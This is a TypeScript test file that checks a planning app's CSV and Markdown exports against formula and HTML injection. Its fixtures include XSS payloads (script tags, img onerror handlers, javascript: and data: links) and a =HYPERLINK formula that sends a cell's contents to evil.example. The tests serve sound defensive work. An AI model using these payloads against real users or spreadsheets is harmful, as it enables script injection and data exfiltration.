import fc from 'fast-check';
import { marked } from 'marked';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { EXPORTERS } from '../../server/cli/exporters';
import { addCriterion } from '../criteria';
import { exportRoom } from '../exportJson';
import { createItem } from '../items';
import { initRoom } from '../meta';
import { localOrigin } from '../origins';
import { DECKS } from '../poker/decks';
import { summaryCsv, type SummaryLabels } from '../poker/summary';
import { exportCsv } from './exportCsv';
import { exportMarkdown } from './exportMarkdown';
import { escapeInline, unescapeInline } from './markdownEscape';
import { markdownToDraft } from './markdownImport';

const me = localOrigin('me');
const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")\nsecond line';

const HOSTILE_LINES = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'[x](javascript:alert(1))',
	'[y](JaVaScRiPt&#58;alert(1))',
	'![pic](data:text/html;base64,PHNjcmlwdD4=)',
	'<javascript:alert(1)>',
	'[ref]',
	'   [ref]: javascript:alert(1)',
	'\\<b>backslash before</b>',
	// Fences a renderer does not take for fences: what follows must still be escaped.
	'``` a`b',
	'<img src=x onerror=alert(2)>',
	'    ```',
	'<script>alert(3)</script>'
];

function hostileRoom(): Y.Doc {
	const doc = new Y.Doc();
	initRoom(doc, { name: '<img src=x onerror=alert(0)>', deck: DECKS.fibonacci, now: 1 }, me);
	createItem(doc, { id: 'a', title: '<script>alert(1)</script> [t](javascript:alert(1))', description: HOSTILE_LINES.join('\n'), labels: ['<b>x</b>'], now: 2 }, me);
	createItem(doc, { id: 'b', title: HYPERLINK.split('\n')[0], description: HYPERLINK, now: 3 }, me);
	addCriterion(doc, 'a', '[c](javascript:alert(1)) <img src=x onerror=alert(4)>', me, 'c1');
	addCriterion(doc, 'a', '@SUM(1+1)', me, 'c2');
	return doc;
}

/** Every cell a spreadsheet would run as a formula: those starting with = + - @ tab or CR. */
function formulaCells(csv: string): string[] {
	const { data } = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
	return data.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
}

describe('CSV exports guard formulas in every cell', () => {
	it('the app and CLI export: a multi-line =HYPERLINK cell goes out with a leading quote', () => {
		const doc = hostileRoom();
		for (const csv of [exportCsv(exportRoom(doc)), EXPORTERS.csv(doc)]) {
			expect(formulaCells(csv)).toEqual([]);
			expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")\nsecond line"`);
		}
	});

	it('the poker session summary too', () => {
		const labels = {
			heading: 'h', item: 'Item', rounds: 'Rounds', round: 'Round', final: 'Final', statusHeader: 'Status', voter: 'Voter', card: 'Card', accepted: 'Accepted',
			status: { voting: 'voting', revealed: 'revealed', accepted: 'accepted', cancelled: 'cancelled' },
			date: 'Date', participants: 'Participants', duration: 'Duration', durationSeconds: 'Seconds', totals: 'Totals', items: 'Items', points: 'Points',
			itemStatus: { new: 'New', refining: 'Refining', ready: 'Ready', done: 'Done' }
		} as unknown as SummaryLabels;
		const csv = summaryCsv([{ itemId: 'b', title: HYPERLINK, final: '-1', status: null, durationMs: 60_000, rounds: [{ attempt: 1, status: 'accepted', votes: [{ name: '+Bob\n=1', card: '-1' }], acceptedCard: '-1' }] }], labels);
		expect(formulaCells(csv)).toEqual([]);
	});
});

describe('Markdown export renders as text', () => {
	const html = () => marked.parse(exportMarkdown(exportRoom(hostileRoom())), { async: false });

	it('no raw HTML, no javascript: or data: links survive a Markdown renderer', () => {
		const out = html();
		expect(out).not.toMatch(/<script|<img|<b>|<[^>]*\s(src|on\w+)=|href="(?!https:\/\/evil\.example\/)/i);
		// The one link is GFM's autolink of a bare https URL, which is harmless.
		expect(out.match(/<a\b/g)).toHaveLength(2);
		// The text is all still there, as text.
		expect(out).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
		expect(out).toContain('&lt;img src=x onerror=alert(1)&gt;');
		expect(out).toContain('[x](javascript:alert(1))');
		expect(out).toContain('[c](javascript:alert(1))');
	});

	it('reads back to the same text', () => {
		const json = exportRoom(hostileRoom());
		const draft = markdownToDraft(exportMarkdown(json));
		expect(draft.name).toBe(json.room.name);
		const a = draft.items.find((item) => item.title.startsWith('<script>'))!;
		expect(a.title).toBe(json.items.find((item) => item.id === 'a')!.title);
		// The import reads any ``` line as a fence, so the two lines after the broken fence stay escaped there.
		expect(a.description.split('\n').slice(0, 10)).toEqual(HOSTILE_LINES.slice(0, 10));
		expect(a.labels).toEqual(['<b>x</b>']);
		expect(a.criteria.map((c) => c.text)).toEqual(['[c](javascript:alert(1)) <img src=x onerror=alert(4)>', '@SUM(1+1)']);
	});

	it('escapeInline: any text comes back exactly and renders with no tag or link of its own', () => {
		const text = fc.string({ unit: fc.constantFrom('<', '>', '\\', '[', ']', '(', ')', 'a', 'b', ':', ' ', '!', '`', '/'), maxLength: 40 });
		fc.assert(
			fc.property(text, (source) => {
				const escaped = escapeInline(source);
				expect(unescapeInline(escaped)).toBe(source);
				const out = marked.parseInline(`x ${escaped}`, { async: false });
				expect(out).not.toMatch(/<a\b|<img|<b>|<\/b>/);
			}),
			{ numRuns: 2000 }
		);
	});
});
